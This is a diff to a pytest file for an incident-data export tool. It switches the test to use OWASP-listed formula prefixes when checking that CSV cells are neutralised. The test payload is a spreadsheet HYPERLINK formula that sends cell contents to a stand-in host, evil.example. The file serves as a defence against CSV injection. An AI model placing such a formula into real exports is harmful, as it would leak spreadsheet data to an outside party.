@@ -12,11 +12,10 @@ from argparse import Namespace
 
 import pandas as pd
 import pytest
-from conftest import PROJECT, make_incident
+from conftest import OWASP_FORMULA_PREFIXES, PROJECT, make_incident
 
 from incidents.cli import run_export as run_export_cli
 from incidents.export import (
-    FORMULA_PREFIXES,
     ExportError,
     export_filename,
     neutralise_cell,
@@ -36,8 +35,7 @@ def read_csv(data: bytes) -> pd.DataFrame:
 
 # --- CSV ----------------------------------------------------------------------------------------
 
-
-@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+@pytest.mark.parametrize("prefix", OWASP_FORMULA_PREFIXES)
 @pytest.mark.parametrize("column", ["incident_id", "location", "actor", "description", "claims"])
 def test_csv_neutralises_formula_cells(prefix, column):
     payload = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -46,7 +44,7 @@ def test_csv_neutralises_formula_cells(prefix, column):
     out = read_csv(to_csv_bytes(conform(pd.DataFrame([row]))))
     cell = out.at[0, column]
     assert cell == "'" + payload
-    assert not cell.startswith(FORMULA_PREFIXES)
+    assert not cell.startswith(OWASP_FORMULA_PREFIXES)
 
 
 def test_csv_keeps_numbers_and_harmless_text(small_frame):
